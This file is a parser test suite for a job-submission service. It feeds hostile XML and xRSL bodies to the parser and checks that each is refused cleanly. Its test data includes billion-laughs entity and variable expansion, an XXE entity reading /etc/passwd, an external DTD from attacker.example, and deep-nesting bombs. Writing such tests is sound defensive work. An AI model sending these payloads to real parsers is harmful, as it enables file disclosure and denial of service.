/**
 * Hostile submission bodies: each is refused with a clear error, in bounded time and
 * memory, and never with anything but a CeError or a per-item failure.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isCeError } from '../../src/errors/ce-error.js';
import type { ItemFailure } from '../../src/jobdesc/item-failure.js';
import { splitSubmission, type SplitSubmission } from '../../src/jobdesc/split-submission.js';
import { ADL_NS, bulkAdl } from './fixtures/samples.js';

const LONG = { timeout: 60_000 };

function onlyFailure(r: SplitSubmission): ItemFailure {
  assert.equal(r.items.length, 1);
  const f = r.items[0];
  assert.ok(f && !f.ok, 'expected a failed item');
  if (f.ok) throw new Error('unreachable');
  assert.ok(f.status > 400 && f.status < 500);
  return f;
}

function wholeRequest(body: Buffer | string, code: string, opts = {}): void {
  assert.throws(
    () => splitSubmission(typeof body === 'string' ? Buffer.from(body) : body, opts),
    (e: unknown) => isCeError(e) && e.code === code && e.statusCode >= 400 && e.statusCode < 500,
  );
}

describe('hostile XML', LONG, () => {
  it('refuses "billion laughs" entity expansion (DOCTYPE) without expanding anything', () => {
    const lol = ['<!DOCTYPE lolz [<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    lol.push(
      `]><ActivityDescription xmlns="${ADL_NS}"><Application><Executable><Path>&lol9;</Path></Executable></Application></ActivityDescription>`,
    );
    const f = onlyFailure(splitSubmission(Buffer.from(lol.join('\n'))));
    assert.equal(f.code, 'CE_ERR_JOBDESC_XML_MALFORMED');
    assert.match(f.reason, /^Unable to parse job description\.\nXML: DOCTYPE declarations are not allowed/);
  });

  it('refuses external entities and external DTDs', () => {
    for (const body of [
      `<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ActivityDescription xmlns="${ADL_NS}"><ActivityIdentification><Name>&xxe;</Name></ActivityIdentification></ActivityDescription>`,
      `<!DOCTYPE ActivityDescription SYSTEM "http://attacker.example/evil.dtd"><ActivityDescription xmlns="${ADL_NS}"/>`,
      `<?xml version="1.0"?><!DOCTYPE x><ActivityDescription xmlns="${ADL_NS}"/>`,
    ]) {
      const f = onlyFailure(splitSubmission(Buffer.from(body)));
      assert.match(f.reason, /DOCTYPE declarations are not allowed/);
    }
  });

  it('refuses undefined entity references', () => {
    const f = onlyFailure(
      splitSubmission(
        Buffer.from(
          `<ActivityDescription xmlns="${ADL_NS}"><ActivityIdentification><Name>&xxe;</Name></ActivityIdentification></ActivityDescription>`,
        ),
      ),
    );
    assert.equal(f.code, 'CE_ERR_JOBDESC_XML_MALFORMED');
  });

  it('refuses deep nesting (100,000 levels) with an error, not a stack overflow', () => {
    const depth = 100_000;
    const body = `<ActivityDescription xmlns="${ADL_NS}">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</ActivityDescription>`;
    const f = onlyFailure(splitSubmission(Buffer.from(body)));
    assert.match(f.reason, /nested deeper than 64/);
  });

  it('refuses huge attribute lists', () => {
    const attrs = Array.from({ length: 20_000 }, (_, i) => `a${i}="${i}"`).join(' ');
    const f = onlyFailure(splitSubmission(Buffer.from(`<ActivityDescription xmlns="${ADL_NS}" ${attrs}/>`)));
    assert.match(f.reason, /more than 64 attributes/);
    const nsDecls = Array.from({ length: 5_000 }, (_, i) => `xmlns:p${i}="urn:${i}"`).join(' ');
    assert.match(
      onlyFailure(splitSubmission(Buffer.from(`<ActivityDescriptions ${nsDecls}/>`))).reason,
      /more than 64 attributes/,
    );
  });

  it('refuses unterminated comments, CDATA and attribute values', () => {
    for (const tail of ['<!-- never closed', '<![CDATA[ never closed', '<x a="never closed/>']) {
      const f = onlyFailure(
        splitSubmission(Buffer.from(`<ActivityDescription xmlns="${ADL_NS}">${tail}${'x'.repeat(100_000)}`)),
      );
      assert.equal(f.code, 'CE_ERR_JOBDESC_XML_MALFORMED');
    }
  });

  it('refuses a description over the size limit without parsing it, and only that bulk item', () => {
    const big = `<ActivityDescription xmlns="${ADL_NS}"><Application><Executable><Path>${'x'.repeat(2000)}</Path></Executable></Application></ActivityDescription>`;
    const f = onlyFailure(splitSubmission(Buffer.from(big), { maxDescriptionBytes: 1000 }));
    assert.deepEqual([f.code, f.status, f.reason], ['CE_ERR_JOBDESC_TOO_BIG', 413, 'Job description is too big']);
    const bulk = splitSubmission(
      Buffer.from(`<ActivityDescriptions><ActivityDescription xmlns="${ADL_NS}"/>${big}</ActivityDescriptions>`),
      { maxDescriptionBytes: 1000 },
    );
    assert.deepEqual(
      bulk.items.map((i) => (i.ok ? 'ok' : i.code)),
      ['ok', 'CE_ERR_JOBDESC_TOO_BIG'],
    );
  });

  it('refuses more bulk items than allowed as a whole-request error', () => {
    wholeRequest(bulkAdl(11), 'CE_ERR_JOBDESC_TOO_MANY_ITEMS', { maxItems: 10 });
    assert.equal(splitSubmission(Buffer.from(bulkAdl(10)), { maxItems: 10 }).items.length, 10);
  });
});

describe('hostile xRSL', LONG, () => {
  it('refuses deep group nesting (100,000 levels) with an error, not a stack overflow', () => {
    const body = `&${'(&'.repeat(100_000)}(a=b)${')'.repeat(100_000)}`;
    const f = onlyFailure(splitSubmission(Buffer.from(body)));
    assert.match(f.reason, /Nesting deeper than 64 levels/);
  });

  it('refuses deep sequence nesting (100,000 levels)', () => {
    const body = `&(jobname=x)(arguments=${'('.repeat(100_000)}${')'.repeat(100_000)})`;
    assert.match(
      onlyFailure(splitSubmission(Buffer.from(body))).reason,
      /^nordugrid:xrsl parsing error:\n1:\d+: Nesting deeper than 64 levels$/,
    );
  });

  it('handles long concatenation chains without deep recursion', () => {
    const body = `&(jobname=x)(arguments=a${' # b'.repeat(200_000)})`;
    const r = splitSubmission(Buffer.from(body));
    const item = r.items[0];
    assert.ok(item?.ok);
    assert.equal(item.ok && item.description.arguments[0]?.length, 200_001);
  });

  it('refuses exponential variable expansion ("billion laughs" in RSL)', () => {
    const defs = ['("A0" "0123456789")'];
    for (let i = 1; i <= 12; i++) defs.push(`("A${i}" ${`$(A${i - 1})`.repeat(10)})`);
    const body = `&(rsl_substitution=${defs.join(' ')})(executable=$(A12))`;
    const f = onlyFailure(splitSubmission(Buffer.from(body)));
    assert.match(f.reason, /Variable substitution expands beyond the allowed size/);
  });

  it('shares the expansion budget across the operands of one request', () => {
    const op = `(&(rsl_substitution=("A" "${'x'.repeat(100_000)}"))(jobname=$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)))`;
    const r = splitSubmission(Buffer.from(`+${op.repeat(20)}`));
    const failed = r.items.filter((i) => !i.ok).length;
    assert.ok(failed > 0 && failed < 20, `some operands exhaust the shared budget (failed ${failed})`);
  });

  it('refuses unterminated strings and comments at any size', () => {
    const filler = 'x'.repeat(1_000_000);
    for (const [body, msg] of [
      [`&(jobname=t)(executable="${filler}`, 'End of double quoted string not found'],
      [`&(jobname=t)(executable='${filler}`, 'End of single quoted string not found'],
      [`&(jobname=t)(executable=^#${filler}`, 'End of user delimiter (#) quoted string not found'],
      [`&(jobname=t)(* ${filler}`, 'End of comment not found'],
    ] as const) {
      const f = onlyFailure(splitSubmission(Buffer.from(body)));
      assert.ok(f.reason.endsWith(msg), f.reason);
    }
  });

  it('refuses a single description over the size limit before parsing it', () => {
    const f = onlyFailure(
      splitSubmission(Buffer.from(`&(jobname="${'y'.repeat(5000)}")`), { maxDescriptionBytes: 1000 }),
    );
    assert.equal(f.code, 'CE_ERR_JOBDESC_TOO_BIG');
  });

  it('refuses too many + operands as a whole-request error', () => {
    wholeRequest(`+${'(&(jobname=x))'.repeat(101)}`, 'CE_ERR_JOBDESC_TOO_MANY_ITEMS', { maxItems: 100 });
  });

  it('reports thousands of failing + operands each with its own position', () => {
    const n = 5000;
    const body = `+${Array.from({ length: n }, () => '\n(&(count=x))').join('')}`;
    const r = splitSubmission(Buffer.from(body));
    assert.equal(r.items.length, n);
    r.items.forEach((item, i) => {
      assert.ok(!item.ok);
      assert.equal(
        !item.ok && item.reason,
        `nordugrid:xrsl parsing error:\n${i + 2}:4: Value of 'count' attribute must be an integer`,
      );
    });
  });

  it('refuses invalid UTF-8 anywhere in the body as a whole-request error', () => {
    const good = Buffer.from('&(jobname="ok")(executable=/bin/true)');
    wholeRequest(
      Buffer.concat([good.subarray(0, 12), Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]), good.subarray(12)]),
      'CE_ERR_JOBDESC_INVALID_UTF8',
    );
    wholeRequest(
      Buffer.concat([
        Buffer.from(`<ActivityDescription xmlns="${ADL_NS}">`),
        Buffer.from([0xc3]),
        Buffer.from('</ActivityDescription>'),
      ]),
      'CE_ERR_JOBDESC_INVALID_UTF8',
    );
  });

  it('keeps NUL and control characters as data, and the acceptance checks refuse them in file names', () => {
    const r = splitSubmission(Buffer.from('&(executable=/bin/true)(stdout="a\u0000b")(arguments="\u0001\u001f")'));
    const item = r.items[0];
    assert.ok(item?.ok);
    assert.deepEqual(item.ok && item.description.arguments, ['\u0001\u001f']);
  });
});
